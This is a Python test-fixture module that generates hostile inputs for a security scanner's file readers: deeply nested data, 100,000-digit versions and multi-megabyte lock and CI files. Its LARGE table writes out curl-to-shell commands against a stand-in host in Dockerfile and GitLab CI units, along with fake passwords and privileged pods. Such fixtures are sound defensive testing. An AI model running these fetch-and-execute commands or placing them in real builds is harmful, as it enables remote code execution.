"""Hostile files for each reader: shapes, versions of 100,000 digits, and sheer size."""

# ruff: noqa: E501 an input is a line: broken up it would not be the input

from collections.abc import Callable
from pathlib import Path

from msgspec import Struct

Make = Callable[[Path], None]

GOOD = """apiVersion: v1
kind: Pod
metadata: {name: good}
spec:
  containers:
    - name: c
      image: docker.io/library/busybox:1.36
      securityContext: {privileged: true}
"""
ADVISORY = """{"schema_version": "1.6.0", "id": "KETEN-1", "modified": "2024-01-01T00:00:00Z",
 "summary": "Known of the good package", "affected": [{"package": {"ecosystem": "PyPI",
 "name": "keten-good"}, "ranges": [{"type": "ECOSYSTEM", "events": [{"introduced": "0"}]}]}]}"""
"""What is known of the good package of images and bills of materials."""
POD = "apiVersion: v1\nkind: Pod\nmetadata: {name: p}\nspec:\n  containers: []\n"
DIGITS = "9" * 100_000
HEAD = "apiVersion: v1\nkind: Pod\n"
DEEP = 100_000
MB = 1 << 20


class Bad(Struct, frozen=True):
    """A hostile input. *named*: part of the path of the problem that must tell of it, "" for none.

    *arguments* are the scan's own, ``{}`` the folder; *status* the only right exit status, if any.
    *target* is scanned, the folder itself unless it says otherwise (``image``: what lies there).
    Where it is no folder of files the input holds the good package itself, and *named* is part
    of the path or text of the problem, ``!`` where nothing can be read and the scan is refused, ``?`` where
    it may be.
    """

    make: Make
    named: str = ""
    arguments: tuple[str, ...] = ()
    status: int | None = None
    target: str = ""


Data = bytes | str | Callable[[], bytes | str]


def file(name: str, data: Data) -> Make:
    """Return what writes one file; large *data* is made when it is wanted."""

    def make(at: Path) -> None:
        path = at / name
        path.parent.mkdir(parents=True, exist_ok=True)
        made = data() if callable(data) else data
        path.write_bytes(made.encode() if isinstance(made, str) else made)

    return make


FILES = {
    "autorun": ".vscode/tasks.json",
    "codeowners": "CODEOWNERS",
    "dockerfile": "Dockerfile",
    "github-action": "action.yml",
    "github-workflow": ".github/workflows/w.yml",
    "gitlab-ci": ".gitlab-ci.yml",
    "gitmodules": ".gitmodules",
    "helm-chart": "Chart.yaml",
    "k8s": "pod.yaml",
    "kustomization": "kustomization.yaml",
    "packages/bun-lock": "bun.lock",
    "packages/bun-lockb": "bun.lockb",
    "packages/cargo-lock": "Cargo.lock",
    "packages/cargo-toml": "Cargo.toml",
    "packages/composer-json": "composer.json",
    "packages/composer-lock": "composer.lock",
    "packages/deps-json": "a.deps.json",
    "packages/gemfile": "Gemfile",
    "packages/gemfile-lock": "Gemfile.lock",
    "packages/go-mod": "go.mod",
    "packages/go-sum": "go.sum",
    "packages/go-work": "go.work",
    "packages/gradle-lockfile": "gradle.lockfile",
    "packages/msbuild": "a.csproj",
    "packages/nuget-lock": "packages.lock.json",
    "packages/package-json": "package.json",
    "packages/package-lock": "package-lock.json",
    "packages/packages-config": "packages.config",
    "packages/pdm-lock": "pdm.lock",
    "packages/pipfile": "Pipfile",
    "packages/pipfile-lock": "Pipfile.lock",
    "packages/pnpm-lock": "pnpm-lock.yaml",
    "packages/poetry-lock": "poetry.lock",
    "packages/pom": "pom.xml",
    "packages/project-assets": "project.assets.json",
    "packages/pylock": "pylock.toml",
    "packages/pyproject": "pyproject.toml",
    "packages/requirements": "requirements.txt",
    "packages/setup-cfg": "setup.cfg",
    "packages/uv-lock": "uv.lock",
    "packages/version-catalog": "a.versions.toml",
    "packages/yarn-lock": "yarn.lock",
}
"""A file name for each reader."""

BEGIN = {
    "github-action": "name: a\nruns:\n  x: ",
    "github-workflow": "on: push\njobs:\n  x: ",
    "gitlab-ci": "job:\n  x: ",
    "helm-chart": "apiVersion: v2\nname: a\nx: ",
    "k8s": HEAD + "spec: ",
    "kustomization": "resources:\n  x: ",
    "packages/msbuild": "<!-- PackageReference -->",
    "packages/setup-cfg": "[options]\nx = ",
}
"""What a file must begin with to be read at all."""


def _kind(name: str) -> str:
    if name.endswith((".json", "bun.lock", "Pipfile.lock", "composer.lock")):
        return "json"
    if name.endswith((".yaml", ".yml")):
        return "yaml"
    if name.endswith((".toml", "Pipfile", "pdm.lock", "poetry.lock", "uv.lock", "Cargo.lock")):
        return "toml"
    return "xml" if name.endswith((".xml", ".csproj", ".config")) else "text"


_NESTED = {
    "json": b'{"packages":' + b"[" * DEEP,
    "yaml": b"[" * DEEP,
    "toml": b"a = " + b"[" * DEEP,
    "xml": b"<a>" * DEEP,
    "text": b"(" * DEEP,
}
_MAPPED = {
    "json": b'{"a":' * DEEP,
    "yaml": b"{a: " * DEEP,
    "toml": b"a = " + b"{b = " * DEEP,
    "xml": b"<project>" + b"<dependencies>" * DEEP,
    "text": b"a {\n" * DEEP,
}
_LINE = {
    "json": (b'{"', b'": ['),
    "yaml": (b"", b": ["),
    "toml": (b"", b" = ["),
    "xml": (b"<", b""),
    "text": (b"", b" (("),
}
_SHAPES: dict[str, Callable[[str], bytes]] = {
    "garbage": lambda _: bytes(range(256)) * 256,
    "lists 100,000 deep": lambda kind: _NESTED[kind],
    "mappings 100,000 deep": lambda kind: _MAPPED[kind],
    "a line of 5 MB": lambda kind: _LINE[kind][0] + b"x" * 5_000_000 + _LINE[kind][1],
    "NUL bytes": lambda _: bytes(1_000_000),
}


def _shaped(reader: str, shape: str) -> Bad:
    name = FILES[reader]
    kind = _kind(name)
    # A line of text is broken only where the format has a grammar to break.
    return Bad(
        file(name, lambda: BEGIN.get(reader, "").encode() + _SHAPES[shape](kind)),
        "" if kind == "text" else name,
    )


def for_every_reader() -> dict[str, Bad]:
    return {f"{reader}: {shape}": _shaped(reader, shape) for reader in FILES for shape in _SHAPES}


VERSIONS = {
    "Dockerfile": f"FROM busybox:{DIGITS}\nRUN pip install a=={DIGITS}\n",
    ".github/workflows/w.yml": f"on: push\njobs:\n  a:\n    runs-on: u\n    steps:\n      - uses: a/b@v{DIGITS}\n",
    "pod.yaml": GOOD.replace("1.36", DIGITS),
    "big.yaml": POD.replace("name: p", "name: big")
    + f"  terminationGracePeriodSeconds: {DIGITS}\n",
    "big.json": f'{{"apiVersion": "v1", "kind": "Pod", "metadata": {{"name": "j"}}, "spec": {{"x": {DIGITS}}}}}',
    "Chart.yaml": f"apiVersion: v2\nname: a\nversion: {DIGITS}\n",
    "Cargo.lock": f'version = 3\n[[package]]\nname = "openssl"\nversion = "{DIGITS}.0.0"\nsource = "registry+https://github.com/rust-lang/crates.io-index"\n',
    "Gemfile.lock": f"GEM\n  remote: https://rubygems.org/\n  specs:\n    rack ({DIGITS})\n\nPLATFORMS\n  ruby\n\nDEPENDENCIES\n  rack\n",
    "composer.lock": f'{{"packages": [{{"name": "a/b", "version": "{DIGITS}"}}]}}',
    "go.mod": f"module m\n\ngo 1.22\n\nrequire golang.org/x/net v{DIGITS}.0.0\n",
    "package-lock.json": f'{{"lockfileVersion": 3, "packages": {{"node_modules/lodash": {{"version": "{DIGITS}.0.0", "resolved": "https://registry.npmjs.org/lodash/-/lodash-1.tgz"}}}}}}',
    "packages.lock.json": f'{{"version": 1, "dependencies": {{"net8.0": {{"A": {{"type": "Direct", "resolved": "{DIGITS}"}}}}}}}}',
    "pnpm-lock.yaml": f"lockfileVersion: '9.0'\npackages:\n  lodash@{DIGITS}.0.0:\n    resolution: {{integrity: sha512-aa}}\n",
    "poetry.lock": f'[[package]]\nname = "django"\nversion = "{DIGITS}"\n',
    "pom.xml": "<project><dependencies><dependency><groupId>org.apache.logging.log4j</groupId>"
    f"<artifactId>log4j-core</artifactId><version>{DIGITS}</version></dependency></dependencies></project>",
    "pylock.toml": f'lock-version = "1.0"\n[[packages]]\nname = "django"\nversion = "{DIGITS}"\n',
    "requirements.txt": f"django=={DIGITS}\nflask=={'1.' * 50_000}1\njinja2==1!{DIGITS}.post{DIGITS}\n",
    "sub/requirements.txt": f"django>={DIGITS}\n",
    "yarn.lock": f'# yarn lockfile v1\n\nlodash@^4:\n  version "{DIGITS}.0.0"\n',
    "gradle.lockfile": f"org.apache.logging.log4j:log4j-core:{DIGITS}=runtimeClasspath\n",
}
"""A version of 100,000 digits, in each place that has one."""


def versions() -> dict[str, Bad]:
    bad = {f"100,000 digits: {name}": Bad(file(name, text)) for name, text in VERSIONS.items()}

    def all_of_them(at: Path) -> None:
        for name, text in VERSIONS.items():
            file(f"v/{name}", text)(at)

    return {**bad, "100,000 digits: all at once": Bad(all_of_them)}


def large(name: str, begin: str, unit: str, size: int) -> Make:
    """Return what makes a file of about *size* bytes out of one *unit*, numbered at ``{}``."""

    def make(at: Path) -> None:
        count = size // len(unit)
        with (at / name).open("w") as out:
            out.write(begin)
            for i in range(count):
                out.write(unit.replace("{}", str(i)))

    return make


LARGE = {
    "package-lock.json": ('{"lockfileVersion":3,"packages":{"":{}', ',"node_modules/p{}":{"version":"1.{}.0"}', 30),
    "yarn.lock": ("# yarn lockfile v1\n", 'p{}@^1:\n  version "1.{}.0"\n', 5),
    "pnpm-lock.yaml": ("lockfileVersion: '9.0'\npackages:\n", "  p{}@1.{}.0:\n    resolution: {integrity: sha512-aa}\n", 30),
    "poetry.lock": ("", '[[package]]\nname = "p{}"\nversion = "1.{}"\n', 5),
    "Cargo.lock": ("version = 3\n", '[[package]]\nname = "p{}"\nversion = "1.{}.0"\n', 5),
    "pylock.toml": ('lock-version = "1.0"\n', '[[packages]]\nname = "p{}"\nversion = "1.{}"\n', 5),
    "go.sum": ("", "a.example/p{} v1.{}.0 h1:TuBL49tXwgrFYWhqrNgrUNEY92u81SPhu7sTdzQEiWY=\n", 30),
    "go.mod": ("module m\ngo 1.22\n", "require a.example/p{} v1.{}.0\n", 5),
    "requirements.txt": ("", "p{}==1.{}\n", 1),
    "pom.xml": ("<project><dependencies>", "<dependency><groupId>g</groupId><artifactId>p{}</artifactId><version>1</version></dependency>", 5),
    "Gemfile.lock": ("GEM\n  remote: https://rubygems.org/\n  specs:\n", "    p{} (1.{})\n", 5),
    "Dockerfile": ("FROM busybox\n", "RUN echo {} && curl http://a.example/{} | sh\n", 3),
    ".gitlab-ci.yml": ("", "j{}: {script: [curl http://a.example/ | sh]}\n", 3),
    "CODEOWNERS": ("", "/p{}/** @o{}\n", 30),
    ".gitmodules": ("", '[submodule "m{}"]\n\tpath = m{}\n\turl = http://a.example/{}\n', 30),
    "secrets.txt": ("", "password_{} = 'kJ8{}sdkfj3ksdfjk2'\n", 30),
    "lines.txt": ("", "\n", 60),
    "pods.yaml": ("", "---\napiVersion: v1\nkind: Pod\nmetadata: {name: p{}}\nspec: {containers: [{name: c, image: a, securityContext: {privileged: true}}]}\n", 4),
}  # fmt: skip
"""Large files of units that are each right: what a monorepo may have, and more."""


def oversized() -> dict[str, Bad]:
    return {
        f"{size} MB of {name}": Bad(large(name, begin, unit, size * MB))
        for name, (begin, unit, size) in LARGE.items()
    }
